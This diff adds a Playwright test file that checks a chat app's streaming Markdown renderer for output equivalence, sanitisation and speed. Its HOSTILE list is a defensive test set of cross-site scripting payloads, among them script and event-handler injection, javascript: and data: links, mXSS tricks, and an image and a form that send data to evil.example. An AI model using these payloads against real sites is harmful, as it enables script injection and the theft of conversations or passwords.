@@ -1,0 +1,420 @@
+"""Answers on their way into the page: never anything active, and the same however they were cut into pieces."""
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from tests.browser.chatroom import chatroom, enter, people
+from tests.processes import Site
+
+__all__ = ["chatroom", "people"]
+
+ADVERSARIAL = """Intro text with `code` and **bold
+over two lines**
+
+1. one
+
+   para in item
+2. two
+   - deep
+
+     more
+
+10. ten
+
+    ```py
+    x = 1
+
+
+    y = 2
+    ```
+
+11. eleven
+
+Text
+====
+
+* a
+* b
+
++ c
+
+- d
+
+- e
+
+1. f
+
+2. g
+
+> q
+> > qq
+
+lazy
+
+> after
+
+    indented code
+
+    more code
+
+```js
+let a = 1
+
+
+let b = "```"
+```
+
+~~~~text
+~~~
+still inside
+~~~~
+
+| a | b |
+|--:|:--|
+| 1 | 2 |
+| `|` | 3 |
+
+- [ ] task
+- [x] done
+
+***
+
+Sum: $$a^2 + b^2 = c^2$$ and \\(x_1\\) cost $5 and $6.
+
+$$
+\\int_0^1 x\\,dx
+$$
+
+\\[ \\frac{a}{b} \\]
+
+### Deep heading
+
+# Top heading
+
+###### Sixth
+
+Line one
+line two with trailing spaces  \nline three\\
+line four
+
+<div onclick="x()">
+
+**inside** </div>
+
+<script>
+alert(1)
+
+</script>
+
+&amp; &lt;b&gt; a < b > c
+
+![alt](https://evil.example/x.png) [text](https://example.com "title") <https://auto.example> https://bare.example/x?y=1
+
+[later][1] and [^note] and [x]
+
+[1]: https://example.com/later
+
+Term
+: no definition list
+
+The end"""
+
+LONG = "\n\n".join(
+    part
+    for number in range(24)
+    for part in (
+        f"## Part {number}",
+        "Plain words with *emphasis*, `code` and a [link](https://example.com). " * 3,
+        f"- first {number}\n- second\n  - nested\n\n  paragraph in an item\n- third",
+        f"```python\ndef f{number}(x):\n\n    return x + {number}\n```",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+    )
+)
+
+UNCLOSED = [
+    "Before\n\n```python\nx = 1\n\nprint(x)",
+    "Before\n\n~~~\nopen",
+    "- item\n\n  ```\n  inside",
+    "> ```\n> quoted",
+    "**bold that never ends",
+    "`code that never ends",
+    "[link](https://exa",
+    "| a | b |\n|---",
+    "$$ x + y",
+    "\\( x",
+    "1. one\n\n2",
+    "- one\n\n-",
+    "text\n\n***",
+    "a\r\nb\r\n\r\n```\r\nc\r\n\r\nd\r\n```\r\n\r\ne\r",
+]
+
+HARNESS = """async ({ texts, steps }) => {
+    const { LiveMarkdown, finished } = await import("chat/blocks");
+    const shape = (root) => {
+        const copy = root.cloneNode(true);
+        for (const box of copy.querySelectorAll(".blk, .tail, .run")) box.replaceWith(...box.childNodes);
+        for (const code of copy.querySelectorAll("pre code")) code.textContent = code.textContent;
+        for (const math of copy.querySelectorAll(".math")) {
+            math.textContent = math.dataset.source ?? math.textContent;
+            math.removeAttribute("data-set");
+            math.removeAttribute("data-source");
+        }
+        return copy.innerHTML;
+    };
+    const differing = [];
+    for (const text of texts) {
+        const whole = document.createElement("div");
+        whole.append(finished(text));
+        const expected = shape(whole);
+        for (const step of steps) {
+            const root = document.createElement("div");
+            const live = new LiveMarkdown(root);
+            for (let at = 0; at < text.length; at += step) {
+                live.push(text.slice(at, at + step));
+                live.flush();
+            }
+            live.end();
+            const got = shape(root);
+            if (got === expected) continue;
+            let at = 0;
+            while (got[at] === expected[at]) at += 1;
+            const near = (html) => html.slice(Math.max(0, at - 60), at + 90);
+            differing.push({ step, text: text.slice(0, 40), got: near(got), expected: near(expected) });
+        }
+    }
+    return differing;
+}"""
+
+RENDER = """async (text) => {
+    const { finished, LiveMarkdown } = await import("chat/blocks");
+    const box = document.createElement("div");
+    box.id = "hostile";
+    document.querySelector("#hostile")?.remove();
+    document.body.append(box);
+    const live = new LiveMarkdown(box);
+    for (let at = 0; at < text.length; at += 7) { live.push(text.slice(at, at + 7)); live.flush(); }
+    live.end();
+    box.append(finished(text));
+    await new Promise((resolve) => setTimeout(resolve, 30));
+    const all = [...box.querySelectorAll("*")];
+    const links = all.filter((element) => element.localName === "a").map((element) => new URL(element.href));
+    const images = all.filter((element) => element.localName === "img");
+    return {
+        tags: [...new Set(all.map((element) => element.localName))],
+        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
+        links: [...new Set(links.map(({ protocol }) => protocol))],
+        internal: links.some(({ host }) => host === location.host),
+        images: images.map((element) => element.getAttribute("src").slice(0, 5)),
+        text: box.textContent,
+        touched: window.touched ?? null,
+    };
+}"""
+
+HOSTILE = [
+    "<script>window.touched=1</script>",
+    "<img src=x onerror=window.touched=1>",
+    "<svg><script>window.touched=1</script></svg>",
+    "<svg/onload=window.touched=1>",
+    "<iframe srcdoc='<script>parent.touched=1</script>'></iframe>",
+    "<a href='javascript:window.touched=1'>x</a>",
+    "[x](javascript:window.touched=1)",
+    "[x](JaVaScRiPt:window.touched=1)",
+    "[x](java\nscript:window.touched=1)",
+    "[x](&#106;avascript:window.touched=1)",
+    "[x](data:text/html,<script>window.touched=1</script>)",
+    "[x](vbscript:x)",
+    "[x](//evil.example/x)",
+    "[x](/account/logout/)",
+    "[x]: javascript:window.touched=1\n\n[x]",
+    "<javascript:window.touched=1>",
+    "![x](javascript:window.touched=1)",
+    "![x](https://evil.example/track.png?conversation=secret)",
+    "![x](//evil.example/x.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+    '![x" onerror="window.touched=1](https://evil.example/x.png)',
+    '[x](https://example.com "a\\" onmouseover=\\"window.touched=1")',
+    '```"><img src=x onerror=window.touched=1>\ncode\n```',
+    "```html onload=window.touched=1\n<script>window.touched=1</script>\n```",
+    "`<img src=x onerror=window.touched=1>`",
+    "<style>*{display:none}</style>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.touched=1>",
+    "<details open ontoggle=window.touched=1>",
+    "$$\\href{javascript:window.touched=1}{x}$$",
+    "$$\\htmlClass{x}{y} \\includegraphics{https://evil.example/x.png}$$",
+    "\\( <img src=x onerror=window.touched=1> \\)",
+    "<!-- --><script>window.touched=1</script>",
+    "<![CDATA[<script>window.touched=1</script>]]>",
+    "| <img src=x onerror=window.touched=1> |\n|---|\n| [x](javascript:window.touched=1) |",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<a id=chat-setup name=x>clobber</a>",
+]
+
+
+@pytest.fixture(scope="module")
+def page(chatroom: Site, people: dict[str, str], browser: Browser) -> Iterator[Page]:
+    """One page for all of it: these tests use its modules, not its conversation."""
+    context = browser.new_context()
+    page = context.new_page()
+    enter(page, chatroom, people["alice"])
+    page.evaluate(
+        """() => { window.violations = [];
+        document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
+            window.violations.push(`${violatedDirective} ${blockedURI}`)); }"""
+    )
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize("steps", [[1, 2, 3], [5, 7, 11, 13], [17, 29, 40, 64, 111, 1000]], ids=str)
+def test_text_in_pieces_becomes_what_the_whole_text_is(page: Page, steps: list[int]):
+    assert page.evaluate(HARNESS, {"texts": [ADVERSARIAL, *UNCLOSED], "steps": steps}) == []
+
+
+def test_a_long_text_in_pieces_becomes_what_the_whole_text_is(page: Page):
+    assert page.evaluate(HARNESS, {"texts": [LONG], "steps": [3, 7, 23, 111]}) == []
+
+
+def test_a_long_fence_is_appended_to_and_ends_as_the_whole_text_does(page: Page):
+    code = "\n".join(f"line {number} " + "x" * (number % 60) for number in range(400))
+    texts = [
+        f"Before\n\n```\n{code}\n```\n\nafter **this**",
+        f"````md\n{code}\n```\ninner\n```\n{code}\n````\nright after",
+        f"  ~~~text\n{code}\n  ~~~\n\n- list",
+        f"```\n{code}",
+        f"```\n{code}\n``` not closed\nmore\n```   \nend",
+    ]
+    assert page.evaluate(HARNESS, {"texts": texts, "steps": [13, 64, 997]}) == []
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_active_comes_out_of_a_hostile_answer(page: Page, text: str):
+    for case in (text, f"- {text}", f"> {text}", f"Words before {text} and after"):
+        found: dict[str, Any] = page.evaluate(RENDER, case)
+        assert found["touched"] is None
+        bad = {"script", "iframe", "object", "embed", "style", "form", "input", "base", "meta", "link", "svg"}
+        assert not bad & set(found["tags"]) - ({"svg"} if "code" in found["tags"] else set()), found
+        assert not [name for name in found["attributes"] if name.startswith("on") or name in {"srcdoc", "formaction"}]
+        assert set(found["links"]) <= {"https:", "http:", "mailto:"}
+        assert not found["internal"], "a link of an answer must not point into this site"
+        assert set(found["images"]) <= {"data:"}
+    assert page.evaluate("window.violations") == []
+
+
+def test_raw_html_is_shown_as_it_was_written(page: Page):
+    found = page.evaluate(RENDER, "Use <b>bold</b> and <custom-tag attr='1'> here")
+    assert "<b>bold</b> and <custom-tag attr='1'> here" in found["text"]
+
+
+def test_an_image_of_another_site_becomes_a_link_that_says_so(page: Page):
+    page.evaluate(RENDER, "![A chart](https://evil.example/chart.png)")
+    link = page.locator("#hostile a.remote-image").first
+    assert link.inner_text() == "Load image: A chart (evil.example)"
+    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert link.get_attribute("target") == "_blank"
+
+
+def test_formulas_are_set_and_prices_are_not(page: Page):
+    page.evaluate(RENDER, "It costs $5 or $6.\n\n$$E = mc^2$$\n\nand \\(a_1\\) and `$$x$$`, wrong: \\(\\frac{\\)")
+    formulas = page.locator("#hostile .math .katex")
+    formulas.first.wait_for()
+    assert formulas.count() == 4  # rendered twice: in pieces and whole
+    assert "It costs $5 or $6." in page.locator("#hostile").inner_text()
+    assert page.locator("#hostile code", has_text="$$x$$").count() == 2
+    assert page.locator("#hostile .math", has_text="\\frac{").count() == 2
+    assert page.evaluate("window.violations") == []
+
+
+def test_code_is_coloured_once_its_fence_is_closed(page: Page):
+    page.evaluate(
+        """async () => {
+            const { LiveMarkdown } = await import("chat/blocks");
+            const box = document.createElement("div");
+            box.id = "growing";
+            document.body.append(box);
+            window.growing = new LiveMarkdown(box);
+            growing.push("```py\\ndef f():\\n    return 1\\n");
+            growing.flush();
+        }"""
+    )
+    code = page.locator("#growing code")
+    assert (code.text_content() or "").startswith("def f():")
+    assert code.locator(".hljs-keyword").count() == 0
+    page.evaluate("() => { growing.push('```\\n'); growing.end(); }")
+    code.locator(".hljs-keyword").first.wait_for()
+    assert (code.text_content() or "").startswith("def f():")
+
+
+@pytest.fixture
+def processor_seconds(page: Page) -> Callable[[], float]:
+    """Seconds that the page's main thread has worked so far: other programs on the machine do not count."""
+    session = page.context.new_cdp_session(page)
+    session.send("Performance.enable", {"timeDomain": "threadTicks"})
+
+    def seconds() -> float:
+        metrics = session.send("Performance.getMetrics")["metrics"]
+        return float(next(metric["value"] for metric in metrics if metric["name"] == "TaskDuration"))
+
+    return seconds
+
+
+def test_200_kilobytes_in_5000_pieces_hold_nothing_up(page: Page, processor_seconds: Callable[[], float]):
+    before = processor_seconds()
+    blocks = page.evaluate(
+        """async (part) => {
+            const { LiveMarkdown } = await import("chat/blocks");
+            const text = part.repeat(Math.ceil(200_000 / part.length)).slice(0, 200_000);
+            const box = document.createElement("div");
+            box.className = "said";
+            document.querySelector("#thread").replaceChildren(box);
+            const live = new LiveMarkdown(box);
+            // Ten pieces arrive in the time of a frame.
+            for (let at = 0, frame = 0; at < text.length; frame += 1) {
+                for (let piece = 0; piece < 10 && at < text.length; piece += 1, at += 40) {
+                    live.push(text.slice(at, at + 40));
+                }
+                live.flush();
+                box.offsetHeight;
+                if (frame % 25 === 0) await new Promise(requestAnimationFrame);
+            }
+            live.end();
+            box.offsetHeight;
+            return box.children.length;
+        }""",
+        LONG + "\n\n",
+    )
+    took = processor_seconds() - before
+    print(f"200 kB in 5,000 pieces: {took:.2f} s of processor time")
+    assert blocks > 200
+    assert took < 4  # rendering everything again for each piece takes minutes
+
+
+def test_ten_thousand_lines_of_code_hold_nothing_up(page: Page, processor_seconds: Callable[[], float]):
+    before = processor_seconds()
+    lines = page.evaluate(
+        """async () => {
+            const { LiveMarkdown } = await import("chat/blocks");
+            const box = document.createElement("div");
+            box.className = "said";
+            document.querySelector("#thread").replaceChildren(box);
+            const live = new LiveMarkdown(box);
+            live.push("```text\\n");
+            for (let line = 0; line < 10_000; line += 20) {
+                for (let more = 0; more < 20; more += 1) live.push(`line ${line + more} of a very long listing\\n`);
+                live.flush();
+                box.offsetHeight;
+            }
+            live.push("```\\n");
+            live.end();
+            box.offsetHeight;
+            return box.querySelector("code").textContent.trimEnd().split("\\n").length;
+        }"""
+    )
+    took = processor_seconds() - before
+    print(f"10,000 lines: {took:.2f} s of processor time")
+    assert lines == 10_000
+    assert took < 4
